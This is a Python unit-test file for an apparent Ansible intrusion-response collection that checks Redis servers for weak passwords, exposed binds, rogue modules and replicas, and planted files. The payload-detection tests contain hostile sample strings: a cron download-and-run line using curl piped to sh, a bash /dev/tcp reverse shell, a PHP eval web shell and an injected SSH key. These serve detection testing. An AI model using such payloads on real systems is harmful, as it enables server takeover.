# Copyright (c) 2026, the ecsops.intrusion_response contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

import pytest

from ansible_collections.ecsops.intrusion_response.plugins.module_utils.detect import redis_instances
from ansible_collections.ecsops.intrusion_response.plugins.module_utils.login import redis_criteria
from ansible_collections.ecsops.intrusion_response.plugins.module_utils.login.redis_keys import (
    PAYLOAD_PATTERNS,
    Payload,
    Snapshot,
    compare,
)
from ansible_collections.ecsops.intrusion_response.plugins.module_utils.respond.redis_steps import Wishes
from ansible_collections.ecsops.intrusion_response.tests.unit.target.redis_views import GOOD, listeners, view


@pytest.mark.parametrize("password,weak", [
    (b"", True),
    (b"foobared", True),
    (b"Redis@123", True),
    (b"P@ssw0rd", True),
    (b"Aliyun123", True),
    (b"Aa1!Aa1!Aa1!", True),  # four different characters
    (b"Short-1aB", True),
    (b"alllowercaselet", True),
    (b"lower1234567890", True),
    (b"Lower-and-Upper1", False),
    (b"guide-asks-4-Eleven", False),
    (b"0123456789abcdef0123456789abcdef", False),  # long: classes do not matter
    (b"\xff\xfe\xfdAa1-zzyx", False),
    (GOOD, False),
])
def test_weak_passwords(password, weak):
    assert (redis_criteria.password_weakness(password) is not None) is weak


@pytest.mark.parametrize("address,loopback", [
    ("127.0.0.1", True), ("127.8.8.8", True), ("::1", True), ("::ffff:127.0.0.1", True), ("localhost", True),
    ("0.0.0.0", False), ("::", False), ("10.0.0.1", False), ("fe80::1%eth0", False), ("*", False), ("", False),
])
def test_loopback(address, loopback):
    assert redis_criteria.is_loopback(address) is loopback


@pytest.mark.parametrize("directory,name,grade", [
    ("/var/lib/redis", "dump.rdb", None),
    ("/data", "dump-6379.rdb", None),
    ("/opt/rooted", "roots.rdb", None),
    ("/root/.ssh", "dump.rdb", "severe"),
    ("/home/a/.ssh/", "authorized_keys", "severe"),
    ("/var/lib/redis", "authorized_keys2", "severe"),
    ("/var/spool/cron", "root", "severe"),
    ("/var/spool/cron/crontabs", "dump.rdb", "severe"),
    ("/etc/cron.d", "x", "severe"),
    ("/etc/crontab.d", "x", "severe"),
    ("/etc", "dump.rdb", "odd"),
    ("/etcetera", "dump.rdb", None),
    ("/var/www/html", "dump.rdb", "odd"),
    ("/var/www/html", "shell.php", "severe"),
    ("/usr/share/tomcat/webapps/x", "x.jsp", "severe"),
    ("/var/lib/redis", "exp.so", "severe"),
    ("/var/lib/redis", ".hidden", "odd"),
    ("/root", "dump.rdb", "careless"),
    ("/tmp", "dump.rdb", "careless"),
    ("/dev/shm/x", "dump.rdb", "careless"),
])
def test_places_of_the_dump(directory, name, grade):
    assert redis_criteria.dump_place(directory, name)[0] == grade


@pytest.mark.parametrize("value,kinds", [
    (b"\n\nssh-rsa AAAAB3NzaC1yc2E x\n\n", ["ssh_key"]),
    (b"\n*/1 * * * * curl -fsSL http://198.51.100.1/x.sh | sh\n", ["download_and_run", "cron_line"]),
    (b"bash -i >& /dev/tcp/198.51.100.1/80 0>&1", ["reverse_shell"]),
    (b"<?php @eval($_POST[1]); ?>", ["web_shell"]),
    (b"ssh-rsa is a kind of key", []),
    (b"{\"a\": \"* is a star\"}", []),
])
def test_payloads(value, kinds):
    assert [kind for kind, pattern in PAYLOAD_PATTERNS if pattern.search(value)] == kinds


OPEN = {"outcome": "open", "conf": "port 6379\n"}
PAYLOAD = Payload(0, b"crackit", ["ssh_key"], 30, b"\nssh-rsa AAAA", True)
MASTER = {"role": "slave", "master_host": "198.51.100.7", "master_port": "21000"}
CALL = {"calls": 1}


# What is given differs from a server in order; the findings are all there are: rule, verdict, severity.
@pytest.mark.parametrize("given,expected", [
    ({}, {"well_kept": ("benign", "info")}),
    ({"listens": ["/run/redis.sock"]}, {"well_kept": ("benign", "info")}),
    (OPEN, {"no_password": ("weak", "medium")}),
    (dict(OPEN, listens=["0.0.0.0:6379"], config={"protected-mode": "no"}),
     {"no_password": ("weak", "critical"), "bind": ("weak", "high"), "protected_mode": ("weak", "medium")}),
    (dict(OPEN, listens=["0.0.0.0:6379"]), {"no_password": ("weak", "medium"), "bind": ("weak", "medium")}),
    # Until 7.0 protected mode does not count where a bind is written.
    (dict(OPEN, listens=["0.0.0.0:6379"], version="6.2.14", config={"bind": "0.0.0.0"}),
     {"no_password": ("weak", "critical"), "bind": ("weak", "high")}),
    (dict(OPEN, outcome="restricted"), {"no_password": ("weak", "medium")}),
    (dict(OPEN, uid=0), {"no_password": ("weak", "medium"), "runs_as_root": ("weak", "medium")}),
    ({"password": b"foobared", "conf": "requirepass foobared\n"}, {"weak_password": ("weak", "medium")}),
    ({"password": b"foobared", "conf": "requirepass foobared\n", "listens": ["10.0.0.9:6379"]},
     {"weak_password": ("weak", "high"), "bind": ("weak", "medium")}),
    ({"listens": ["10.0.0.9:6379"]}, {"bind": ("weak", "medium")}),
    ({"config": {"protected-mode": "no"}}, {"protected_mode": ("weak", "low")}),
    ({"conf": None, "config_note": "none"}, {"not_lasting": ("weak", "high")}),
    ({"conf": "port 6379\n"}, {"not_lasting": ("weak", "high")}),
    ({"password": None, "facts": None, "password_known": False}, {"unknown_password": ("undetermined", "medium")}),
    ({"password": None, "facts": None, "password_known": False, "working_directory": "/root/.ssh"},
     {"unknown_password": ("undetermined", "medium"), "dump_place": ("malicious", "high")}),
    ({"outcome": "unknown", "facts": None}, {"no_answer": ("undetermined", "medium")}),
    ({"outcome": "denied", "facts": None}, {"no_password": ("weak", "medium")}),
    ({"config": {"dir": "/root/.ssh"}}, {"dump_place": ("malicious", "high")}),
    ({"config": {"dir": "/root/.ssh"}, "dump_file": {"is_dump": True}}, {"dump_place": ("malicious", "critical")}),
    ({"config": {"dir": "/var/www/html"}}, {"dump_place": ("suspicious", "medium")}),
    ({"config": {"dir": "/tmp"}}, {"dump_place": ("weak", "low")}),
    ({"config": {"enable-protected-configs": "yes"}}, {"dangerous_commands": ("weak", "low")}),
    ({"config": {"enable-module-command": "yes"},
      "conf": "requirepass An-Old-But-G00d-One\nenable-module-command yes\n"},
     {"dangerous_commands": ("weak", "medium")}),
    ({"info": MASTER}, {"unknown_master": ("suspicious", "high")}),
    ({"info": dict(MASTER, master_host="10.0.0.2")}, {"unknown_master": ("suspicious", "high")}),
    ({"info": dict(MASTER, master_host="10.0.0.1")}, {"well_kept": ("benign", "info")}),
    ({"info": dict(MASTER, master_host="10.0.0.2"),
      "conf": "requirepass An-Old-But-G00d-One\nslaveof 10.0.0.2 21000\n"}, {"configured_master": ("benign", "info")}),
    ({"info": dict(MASTER, master_host="8.8.8.8"),
      "conf": "requirepass An-Old-But-G00d-One\nreplicaof 8.8.8.8 21000\n"},
     {"configured_master": ("suspicious", "medium")}),
    ({"info": {"slave0": "ip=10.0.0.5,port=1,state=online", "connected_slaves": "1"}},
     {"unknown_replica": ("suspicious", "medium")}),
    ({"info": {"slave0": "ip=10.0.0.6,port=1,state=online"}}, {"well_kept": ("benign", "info")}),
    ({"modules": [{"name": "system", "path": "/tmp/exp.so"}]}, {"rogue_module": ("malicious", "critical")}),
    ({"modules": [{"name": "system", "ver": 1}]}, {"rogue_module": ("malicious", "critical")}),
    ({"modules": [{"name": "bf", "path": "/var/lib/redis/x.so"}]}, {"rogue_module": ("malicious", "critical")}),
    ({"modules": [{"name": "bf", "path": "/usr/lib/bf.so"}]}, {"unconfigured_module": ("suspicious", "medium")}),
    ({"modules": [{"name": "bf", "path": "/usr/lib/bf.so"}],
      "conf": "requirepass An-Old-But-G00d-One\nloadmodule /usr/lib/bf.so\n"}, {"well_kept": ("benign", "info")}),
    ({"modules": [{"name": "vectorset", "path": ""}]}, {"well_kept": ("benign", "info")}),
    ({"payloads": [PAYLOAD]}, {"payload_key": ("malicious", "high")}),
    ({"payloads": [PAYLOAD._replace(key=b"jobs", kinds=["cron_line"], padded=False)]},
     {"payload_key": ("suspicious", "medium")}),
    ({"acl": ["user default on #aa ~* +@all", "user bob on nopass ~* +@all"],
      "conf": "requirepass An-Old-But-G00d-One\nuser bob on nopass\n"}, {"user_without_password": ("weak", "high")}),
    ({"acl": ["user bob on #aa ~* +@all"]}, {"user_not_configured": ("suspicious", "medium")}),
    ({"acl": ["user bob off nopass ~* +@all"]}, {"well_kept": ("benign", "info")}),
    ({"commands": {"slaveof": CALL}}, {"command_history": ("suspicious", "medium")}),
    ({"commands": {"slaveof": CALL}, "own_commands": {"slaveof": 1}}, {"well_kept": ("benign", "info")}),
    ({"commands": {"config|set": CALL, "bgsave": CALL}}, {"command_history": ("suspicious", "medium")}),
    ({"commands": {"config|set": CALL, "eval": CALL, "flushall": CALL}}, {"well_kept": ("benign", "info")}),
    ({"slowlog": [{"command": ["CONFIG", "SET", "dir", "/x"], "client": "a", "time": 1}]},
     {"command_history": ("suspicious", "medium")}),
    ({"slowlog": [{"command": ["HGETALL", "config set dir"], "client": "a", "time": 1}]},
     {"well_kept": ("benign", "info")}),
    ({"acl_log": [{"reason": "auth", "client-info": "id=1 addr=198.51.100.1:5 laddr=10.0.0.9:6379"}]},
     {"failed_logins": ("suspicious", "low")}),
    ({"acl_log": [{"reason": "auth", "client-info": "id=1 addr=127.0.0.1:5 laddr=127.0.0.1:6379"}]},
     {"well_kept": ("benign", "info")}),
    (dict(OPEN, contained=True, listens=["0.0.0.0:6379"]),
     {"no_password": ("weak", "medium"), "container": ("weak", "medium")}),
])
def test_what_is_found(tmp_path, given, expected):
    trusted = Wishes(masters=["10.0.0.1"], replicas=["10.0.0.6"])
    findings = redis_instances.findings_of(view(tmp_path, **given), trusted)
    assert {item["rule"].partition(".")[2]: (item["verdict"], item["severity"]) for item in findings} == expected


def test_what_may_be_bound_is_the_operators_choice(tmp_path):
    seen = view(tmp_path, listens=["10.0.0.9:6379", "127.0.0.1:6379"])
    for bind, found in ((["127.0.0.1", "10.0.0.9"], False), (["0.0.0.0"], False), (["127.0.0.1"], True), (None, True)):
        rules = [item["rule"] for item in redis_instances.findings_of(seen, Wishes(bind=bind))]
        assert ("redis_auth.bind" in rules) is found


def test_the_nearest_way_in_is_tried_first(tmp_path):
    seen = view(tmp_path)
    seen.listeners = listeners("10.0.0.9:6379", "/run/redis.sock", "[::]:16379".replace("[", "").replace("]", ""),
                               "0.0.0.0:6379", "relative.sock:0")[:4]
    assert [where.path or where.host for where in redis_instances.endpoints(seen)] == [
        "127.0.0.1", "/run/redis.sock", "10.0.0.9"]


SAME = {"expired_keys": "0"}


@pytest.mark.parametrize("before,after,verdict", [
    (Snapshot("values", "aa", 5, SAME), Snapshot("values", "aa", 5, SAME), "same"),
    (Snapshot("values", "aa", 5, SAME), Snapshot("values", "bb", 4, SAME), "lost"),
    (Snapshot("values", "aa", 5, SAME), Snapshot("values", "bb", 5, SAME), "lost"),
    (Snapshot("values", "aa", 5, SAME), Snapshot("values", "bb", 4, {"expired_keys": "1"}), "changed"),
    (Snapshot("values", "aa", 5, SAME), Snapshot("counts", "aa", 5, SAME), "changed"),
])
def test_comparing_all_keys(before, after, verdict):
    assert compare(before, after)[0] == verdict
